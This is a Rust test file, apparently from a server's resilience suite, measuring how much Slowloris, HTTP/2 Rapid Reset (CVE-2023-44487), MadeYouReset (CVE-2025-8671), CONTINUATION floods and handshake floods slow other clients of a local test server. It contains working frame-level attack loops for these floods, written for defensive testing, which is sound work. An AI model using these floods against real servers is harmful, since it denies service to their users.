//! What an attacker with little of a processor can do to all others: no more than a client that behaves and has as much.
//!
//! Both run in a thread of their own that is held to a quarter of one processor by its own processor time. Others, which
//! ask at a steady pace, are measured beside the one and beside the other, in turns.

use std::{
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread,
    time::{Duration, Instant},
};

use rustix::time::{ClockId, clock_gettime};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
    time::{sleep, timeout},
};
use tokio_rustls::TlsConnector;

use pierhead::server::descriptors::{self, Costs};

use crate::{
    hostile::{
        client::{Stream, answer, request},
        frames::{CONTINUATION, Connection, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, WINDOW_UPDATE, block, frame},
        target::Target,
    },
    support::{registry::Program, tools},
};

/// Processor time that attackers, and the client that they are compared with, may use for each second.
const SHARE: f64 = 0.25;

/// How much longer others may wait beside an attacker than beside a client that behaves.
const RATIO_MAX: f64 = 2.0;

/// Measurements of each kind; the middle one counts, because other programs of the machine disturb some.
const PAIRS: usize = 15;

/// How long one measurement takes.
const PERIOD: Duration = Duration::from_secs(2);

/// The pace at which others ask.
const PACE: Duration = Duration::from_millis(5);

/// Connections that an attacker holds open.
const HELD: usize = 2000;

/// The address of attackers, and of whom they are compared with.
const ATTACKER: &str = "127.0.0.2:0";

/// What an attacker does.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
enum Conduct {
    /// Asks for a manifest, again and again.
    Good,
    /// Opens connections and never ends a request's head.
    Slowloris,
    /// CVE-2023-44487.
    RapidReset,
    /// CVE-2025-8671.
    MadeReset,
    /// RUSTSEC-2024-0332.
    Continuation,
    /// Ends each connection after its handshake.
    Handshakes,
}

/// Holds the thread that it was made in to its share.
struct Allowance {
    started: Instant,
    used_before: f64,
}

impl Allowance {
    fn new() -> Self {
        Self { started: Instant::now(), used_before: Self::used() }
    }

    /// Processor time of this thread, in seconds, to the moment: what `/proc` says is as old as the last tick, and whoever
    /// floods without ever waiting would hold a processor from tick to tick.
    fn used() -> f64 {
        let used = clock_gettime(ClockId::ThreadCPUTime);
        Duration::new(used.tv_sec.try_into().unwrap(), used.tv_nsec.try_into().unwrap()).as_secs_f64()
    }

    async fn keep(&self) {
        while Self::used() - self.used_before > self.started.elapsed().as_secs_f64() * SHARE {
            sleep(Duration::from_millis(1)).await;
        }
    }
}

/// What whoever attacks needs of a target, to be taken into a thread.
#[derive(Clone)]
struct Victim {
    address: SocketAddr,
    http1: TlsConnector,
    http2: TlsConnector,
    get: Vec<u8>,
    block: Vec<u8>,
    operations: Arc<AtomicU64>,
}

impl Victim {
    async fn plain(&self) -> Option<TcpStream> {
        let socket = TcpSocket::new_v4().unwrap();
        socket.bind(ATTACKER.parse().unwrap()).unwrap();
        timeout(Duration::from_secs(5), socket.connect(self.address)).await.ok()?.ok()
    }

    async fn connect(&self, client: &TlsConnector) -> Option<Stream> {
        let stream = self.plain().await?;
        let name = rustls::pki_types::ServerName::try_from("localhost").unwrap();
        timeout(Duration::from_secs(5), client.connect(name, stream)).await.ok()?.ok()
    }

    /// Goes on until it is dropped; a connection that ends is followed by another.
    async fn suffer(&self, conduct: Conduct) {
        let allowance = Allowance::new();
        let mut held = std::collections::VecDeque::new();
        loop {
            allowance.keep().await;
            self.operations.fetch_add(1, Ordering::Relaxed);
            match conduct {
                Conduct::Good => {
                    let Some(mut stream) = self.connect(&self.http1).await else { continue };
                    loop {
                        allowance.keep().await;
                        stream.write_all(&self.get).await.unwrap();
                        assert_eq!(answer(&mut stream).await.status, 200);
                        self.operations.fetch_add(1, Ordering::Relaxed);
                    }
                }
                Conduct::Slowloris => {
                    let Some(mut stream) = self.connect(&self.http1).await else { continue };
                    let _ = stream.write_all(b"GET / HTTP/1.1\r\nX: ").await;
                    held.push_back(stream);
                    if held.len() > HELD {
                        held.pop_front();
                    }
                }
                Conduct::Handshakes => drop(self.connect(&self.http1).await),
                Conduct::RapidReset | Conduct::MadeReset | Conduct::Continuation => {
                    self.flood(conduct, &allowance).await;
                }
            }
        }
    }

    /// Until the server has had enough.
    async fn flood(&self, conduct: Conduct, allowance: &Allowance) {
        let Some(stream) = self.connect(&self.http2).await else { return };
        let Ok(Connection { mut reader, mut writer }) = Connection::begin(stream, &[]).await else { return };
        let read = async {
            let mut sink = vec![0; 64 << 10];
            while matches!(reader.read(&mut sink).await, Ok(1..)) {}
        };
        let mut write = async || -> std::io::Result<()> {
            let mut stream = 1;
            if conduct == Conduct::Continuation {
                writer.write_all(&frame(HEADERS, 0, 1, &self.block)).await?;
            }
            loop {
                allowance.keep().await;
                let mut batch = Vec::new();
                for _ in 0..50 {
                    match conduct {
                        Conduct::RapidReset => {
                            batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &self.block));
                            batch.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                        }
                        Conduct::MadeReset => {
                            batch.extend(frame(HEADERS, END_HEADERS, stream, &self.block));
                            batch.extend(frame(WINDOW_UPDATE, 0, stream, &[0; 4]));
                        }
                        _ => batch.extend(frame(CONTINUATION, 0, 1, &[])),
                    }
                    stream += 2;
                }
                self.operations.fetch_add(50, Ordering::Relaxed);
                writer.write_all(&batch).await?;
                writer.flush().await?;
            }
        };
        tokio::select! {
            () = read => {}
            _ = write() => {}
        }
    }
}

/// Runs beside the measurement until it is dropped.
struct Running {
    stop: Arc<AtomicBool>,
    thread: Option<thread::JoinHandle<()>>,
}

impl Running {
    fn start(victim: Victim, conduct: Conduct) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        let run = move || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
            runtime.block_on(async {
                let until = async {
                    while !stopped.load(Ordering::Relaxed) {
                        sleep(Duration::from_millis(20)).await;
                    }
                };
                tokio::select! {
                    () = victim.suffer(conduct) => {}
                    () = until => {}
                }
            });
        };
        Self { stop, thread: Some(thread::spawn(run)) }
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        let ended = self.thread.take().map(thread::JoinHandle::join);
        assert!(thread::panicking() || matches!(ended, Some(Ok(()))), "whoever ran beside the others failed");
    }
}

/// The time that 99 of 100 requests took at most, for clients that ask whether they were answered or not.
async fn others(target: &Target) -> Duration {
    let get = target.request("GET", "/v2/canary/manifests/t0", &[], b"");
    let mut stream = target.connect("http/1.1").await;
    let mut times = Vec::new();
    let started = Instant::now();
    let mut due = started;
    while started.elapsed() < PERIOD {
        sleep(due.saturating_duration_since(Instant::now())).await;
        stream.write_all(&get).await.unwrap();
        stream.flush().await.unwrap();
        assert_eq!(answer(&mut stream).await.status, 200, "others are answered");
        // From when it should have been asked: who is late because of the one before is late, too.
        times.push(due.elapsed());
        due += PACE;
    }
    times.sort_unstable();
    times[times.len() * 99 / 100]
}

async fn beside(target: &Target, victim: &Victim, conduct: Conduct) -> Duration {
    let used = target.processor_seconds();
    let running = Running::start(victim.clone(), conduct);
    sleep(Duration::from_millis(500)).await;
    let time = others(target).await;
    drop(running);
    let (operations, used) = (victim.operations.swap(0, Ordering::Relaxed), target.processor_seconds() - used);
    println!("  p99 {time:?} beside {operations} of {conduct:?}; the server used {used:.2} s");
    time
}

/// Measures others beside a client that behaves and beside an attacker, in turns.
fn compare(conduct: Conduct) {
    if !tools::large() {
        return;
    }
    let _ = descriptors::share(Costs { each: 1, upstream: 0 });
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(async {
        let program = Program::pierhead_release().unwrap_or_else(Program::pierhead);
        let target = Target::start_program(&program, "").await;
        let bearer = format!("Bearer {}", target.token);
        let victim = Victim {
            address: target.address,
            http1: target.client("http/1.1"),
            http2: target.client("h2"),
            get: request("GET", "/v2/canary/manifests/t0", &[("Authorization", &bearer)], b""),
            block: block("GET", "/v2/canary/tags/list", Some(&target.token)),
            operations: Arc::default(),
        };
        let mut ratios = Vec::new();
        for _ in 0..PAIRS {
            let good = beside(&target, &victim, Conduct::Good).await;
            let bad = beside(&target, &victim, conduct).await;
            ratios.push(bad.as_secs_f64() / good.as_secs_f64());
        }
        ratios.sort_by(f64::total_cmp);
        let ratio = ratios[PAIRS / 2];
        println!("{conduct:?}: {ratio:.2} times (of {ratios:.2?})");
        target.unharmed(&format!("{conduct:?}")).await;
        assert!(ratio < RATIO_MAX, "others wait {ratio:.2} times as long beside {conduct:?}");
    });
}

#[test]
fn large_others_beside_heads_that_never_end() {
    compare(Conduct::Slowloris);
}

#[test]
fn large_others_beside_streams_that_are_reset() {
    compare(Conduct::RapidReset);
}

#[test]
fn large_others_beside_resets_that_we_are_made_to_send() {
    compare(Conduct::MadeReset);
}

#[test]
fn large_others_beside_heads_in_endless_pieces() {
    compare(Conduct::Continuation);
}

#[test]
fn large_others_beside_handshakes() {
    compare(Conduct::Handshakes);
}
